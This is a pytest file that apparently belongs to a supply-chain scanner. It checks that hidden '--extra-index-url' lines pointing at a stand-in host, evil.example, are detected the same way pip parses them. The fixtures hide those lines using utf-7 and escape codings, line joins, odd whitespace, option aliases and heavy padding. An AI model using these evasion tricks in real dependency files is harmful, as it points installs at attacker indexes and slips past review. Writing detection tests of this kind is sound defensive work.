"""Files of requirements that are written so that only pip sees what they ask for; pip itself is the judge."""

from __future__ import annotations

from pathlib import Path

import pytest
from pip._internal.index.collector import LinkCollector
from pip._internal.index.package_finder import PackageFinder
from pip._internal.models.search_scope import SearchScope
from pip._internal.models.selection_prefs import SelectionPreferences
from pip._internal.network.session import PipSession
from pip._internal.req.req_file import parse_requirements

from weighmaster import shipped
from weighmaster.engine.scan import scan_bytes
from weighmaster.model.package import Dependency, Index
from weighmaster.model.report import Gap, GapReason, Item
from weighmaster.reading.budget import Limits

_EVIL = "https://evil.example/s"
_ASKS = f"--extra-index-url {_EVIL}\n"
_PAD = "# padding\n"
HIDDEN: dict[str, bytes] = {
    "utf-7": b"# coding: utf-7\nrequests==2.0\n+AC0ALQ-extra-index-url https://evil.example/s\n",
    "escapes": b"# x\n# -*- coding: unicode_escape -*-\nrequests==2.0\n\\x2d\\x2dextra-index-url https://evil.example/s\n",
    "joined": f"--extra-\\\nindex-url {_EVIL}\nrequests==2.0\n".encode(),
    "quoted": f'requests==2.0\n-"-extra-index-url" {_EVIL}\n'.encode(),
    "long comment": f"requests==2.0 # {'x' * 600}\n{_ASKS}".encode(),
    "long line": f"requests==2.0 {' '.join(f'--hash=sha256:{n:064x}' for n in range(12))}\n{_ASKS}".encode(),
    "settings": f'requests==2.0 --config-settings="a=b c"\n{_ASKS}'.encode(),
    "tab": f"requests==2.0\n\t--extra-index-url\t{_EVIL}\n".encode(),
    "wide space": f"requests==2.0\n\u3000{_ASKS}".encode(),
    "separator": f"requests==2.0 # a\u2028{_ASKS}".encode(),
    "form feed": f"requests==2.0\x0c{_ASKS}".encode(),
    "short": f"requests==2.0\n--i {_EVIL}\n".encode(),
    "alias": f"requests==2.0\n--py {_EVIL}\n".encode(),
    "variable": f"requests==2.0\n${{A_LINE}}\n{_ASKS}".encode(),
    "folders": f".\nsub/dir\n..[dev]\n{_ASKS}".encode(),
    "capitals": f"HTTPS://evil.example/f.tar.gz\nGIT+https://evil.example/f\n{_ASKS}".encode(),
    "padded": f"requests==2.0\n{_PAD * 90_000}{_ASKS}".encode(),
}


def _of_pip(data: bytes, folder: Path) -> tuple[set[str], int]:
    path = folder / "requirements.txt"
    path.write_bytes(data)
    with PipSession() as session:
        scope = SearchScope.create([], ["https://pypi.org/simple"], no_index=False)
        collector = LinkCollector(session=session, search_scope=scope)
        finder = PackageFinder.create(
            link_collector=collector, selection_prefs=SelectionPreferences(allow_yanked=False)
        )
        wanted = [*parse_requirements(str(path), session=session, finder=finder)]
    return {*finder.index_urls} - {"https://pypi.org/simple"}, len(wanted)


def _items(data: bytes, name: str) -> list[Item]:
    return list(scan_bytes(data, name, shipped.registry(), Limits()))


@pytest.mark.parametrize("id", HIDDEN)
def test_what_pip_sees_is_seen(id: str, tmp_path: Path) -> None:
    items = _items(HIDDEN[id], "requirements.txt")
    indexes, wanted = _of_pip(HIDDEN[id], tmp_path)
    if any(isinstance(item, Gap) and item.reason is GapReason.OVER_BUDGET for item in items):
        return
    assert {item.target for item in items if isinstance(item, Index)} == indexes == {_EVIL}
    found = [item for item in items if isinstance(item, Dependency)]
    assert len(found) == wanted - HIDDEN[id].count(b"${A_LINE}")


@pytest.mark.parametrize(
    "name",
    ["requirements.txt", "pyproject.toml", "uv.lock", "poetry.lock", "Pipfile", "environment.yml", "Dockerfile.gpu",
     "setup.cfg", "setup.py", "start.pth", "install.sh", "pip.conf", "sub/pylock.dev.toml"],
)  # fmt: skip
def test_what_is_padded_beyond_what_is_looked_through_is_said_to_be_unread(name: str) -> None:
    data = _PAD.encode() * 1_800_000 + b"import os\n"
    assert any(isinstance(item, Gap) and item.reason is GapReason.OVER_BUDGET for item in _items(data, name))
    assert not any(isinstance(item, Gap) for item in _items(data, "notes.txt"))


def test_an_encoding_that_takes_too_long_is_said_to_be_unread() -> None:
    items = _items(b"# coding: punycode\nrequests==2.0\n", "requirements.txt")
    assert any(isinstance(item, Gap) for item in items)


@pytest.mark.parametrize("opening", ["{}", "[]", "{'a': 1}", '["a", {"b": null}]', "[exec]"])
def test_source_that_begins_as_data_does_is_source(opening: str) -> None:
    source = f"{opening}\n{_PAD * 2000}import os\nos.system('true')\n"
    items = _items(source.encode(), "pack/__init__.py")
    assert "source-acts-on-import" in {item.rule.id for item in items if hasattr(item, "rule")} or any(
        getattr(item, "name", "") == "system" for item in items
    )


@pytest.mark.parametrize("text", ['{"a": "f(x) import class"}\n', '[{"a": 1e5, "b": [true, null]}]\n' * 50])
def test_json_is_no_source(text: str) -> None:
    artifact = next(item for item in _items(text.encode(), "a.json") if hasattr(item, "formats"))
    assert "python" not in artifact.formats
